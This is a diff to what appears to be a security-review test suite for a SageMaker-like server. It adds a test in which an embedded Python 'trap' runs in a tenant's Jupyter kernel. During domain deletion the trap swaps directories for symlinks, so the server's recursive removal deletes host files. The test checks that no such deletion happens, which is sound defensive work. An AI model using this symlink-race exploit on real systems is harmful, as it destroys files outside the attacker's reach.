@@ -18,6 +18,9 @@
 //           with a 1 GiB volume writes gigabytes there.
 //   R8      VolumeSizeInGB is not held to what the host has: a volume larger than the free
 //           space of the data directory is made, so writes inside the bound fill the host.
+//   R9      Deleting a domain with its home storage leaves the tenants' Studio instances running
+//           and removes the homes with a path-based rm -rf (fs.rm): a kernel that swaps a
+//           directory for a link at the right moment makes the server delete host files.
 import { FilterLogEventsCommand } from '@aws-sdk/client-cloudwatch-logs';
 import {
   CreateBucketCommand,
@@ -33,6 +36,7 @@ import {
   CreateTrainingJobCommand,
   CreateTransformJobCommand,
   DeleteEndpointCommand,
+  DescribeDomainCommand,
   DescribeTransformJobCommand,
   DescribeUserProfileCommand,
   ListDomainsCommand,
@@ -43,7 +47,7 @@ import {
 } from '@aws-sdk/client-sagemaker';
 import { InvokeEndpointCommand } from '@aws-sdk/client-sagemaker-runtime';
 import { execute, jupyterManagers, jupyterSettings, waitFor } from '@tessera/test-support';
-import { existsSync, statfsSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, rmSync, statfsSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { boot, createDomain, otherUser, uniqueName, type Harness } from './harness.ts';
@@ -553,5 +557,113 @@ describe('review R7–R8: storage on the host', { timeout: 420_000 }, () => {
           `/opt/ml is ${(size / GiB).toFixed(0)} GiB`,
       ).toEqual({ volumeFitsTheHost: true });
     });
+  });
+});
+
+// Runs in Mallory's kernel, in a thread. Lays N directories (each holding a file) beside N decoy
+// files in ~/race. fs.rm removes a tree in waves (lstat every child, then rmdir each directory,
+// ENOTEMPTY, then readdir it, ...), so the first decoy to disappear says the server has just
+// called rmdir on the directories and is about to list them: each is then swapped for a link to
+// the victim directory, and the server lists, lstats and unlinks the victim's files through it.
+// Re-armed after each firing: a failed removal is retried by the domain's reconciler.
+const TRAP = (victim: string) => `
+import os, shutil, threading, time
+VICTIM, N, base = ${JSON.stringify(victim)}, 800, '/home/sagemaker-user/race'
+def lay():
+    os.makedirs(base, exist_ok=True)
+    for n in os.listdir(base):
+        if n.startswith('m'):
+            shutil.rmtree(os.path.join(base, n), ignore_errors=True)
+    for i in range(N):
+        d = f'{base}/d{i}'
+        if os.path.islink(d):
+            os.unlink(d)
+        if not os.path.isdir(d):
+            os.mkdir(d)
+        if not os.path.lexists(f'{d}/f'):
+            open(f'{d}/f', 'w').close()
+        if not os.path.lexists(f'{base}/e{i}'):
+            open(f'{base}/e{i}', 'w').close()
+fired = []
+def trap():
+    end = time.time() + 300
+    while time.time() < end:
+        try:
+            lay()
+        except OSError:
+            time.sleep(0.05)
+            continue
+        sentinels = [f'{base}/e{i}' for i in range(0, N, 3)]
+        while time.time() < end:
+            if any(not os.path.lexists(s) for s in sentinels):
+                n = 0
+                for i in range(N):
+                    try:
+                        os.rename(f'{base}/d{i}', f'{base}/m{i}')
+                        os.symlink(VICTIM, f'{base}/d{i}')
+                        n += 1
+                    except OSError:
+                        pass
+                fired.append(n)
+                break
+        time.sleep(1.0)
+lay()
+threading.Thread(target=trap, daemon=True).start()
+print('armed')
+`;
+
+describe('review R9: removing a domain under its tenants', { timeout: 420_000 }, () => {
+  it('R9. deleting a domain with its home storage, while a tenant kernel runs, deletes nothing outside it', async () => {
+    const victim = mkdtempSync('/tmp/hostile-review-victim-');
+    for (let i = 0; i < 300; i++) writeFileSync(join(victim, `host-file-${i}`), 'a file of this host\n');
+    try {
+      await withServer(async (h) => {
+        const DomainId = await createDomain(h.sagemaker);
+        const mallory = await otherUser(h);
+        const P = uniqueName('leaver');
+        const r = await h.session.rest('POST', `/api/v1/domains/${DomainId}/user-profiles`, {
+          UserProfileName: P,
+          OwnerUsername: mallory.username,
+        });
+        expect(r.status).toBe(200);
+        await profileInService(h, DomainId, P);
+        await openStudio(mallory, DomainId, P);
+        const base = `${h.server.url}/jupyter/${DomainId}/${P}/default/`;
+        const mj = jupyterManagers(jupyterSettings(base, { cookie: mallory.session.cookie }));
+        const session = await mj.sessions.startNew({
+          path: 'trap.ipynb',
+          name: 'trap.ipynb',
+          type: 'notebook',
+          kernel: { name: 'minimal__ml.t3.medium' },
+        });
+        expect(await execute(session.kernel!, TRAP(victim))).toContain('armed');
+
+        // The administrator retires the domain, homes included.
+        const del = await h.session.rest('DELETE', `/api/v1/domains/${DomainId}?retainHome=false`);
+        expect(del.status).toBeLessThan(300);
+        const left = () => readdirSync(victim).length;
+        const started = Date.now();
+        while (Date.now() - started < 120_000 && left() === 300) {
+          const gone = await h.sagemaker.send(new DescribeDomainCommand({ DomainId })).then(
+            () => false,
+            (e: Error) => e.name === 'ResourceNotFound',
+          );
+          if (gone && Date.now() - started > 20_000) break;
+          await sleep(500);
+        }
+        const fired = await execute(session.kernel!, 'print(fired)').catch((e: Error) => e.message);
+        await mj.dispose();
+        expect(
+          { hostFilesLeft: left() },
+          `trap fired (directories swapped each time): ${fired.trim()}; server log: ${h.server.output
+            .filter((l) => /domain|ENOTDIR|ENOTEMPTY/.test(l))
+            .slice(-4)
+            .join(' | ')
+            .slice(0, 800)}`,
+        ).toEqual({ hostFilesLeft: 300 });
+      });
+    } finally {
+      rmSync(victim, { recursive: true, force: true });
+    }
   });
 });
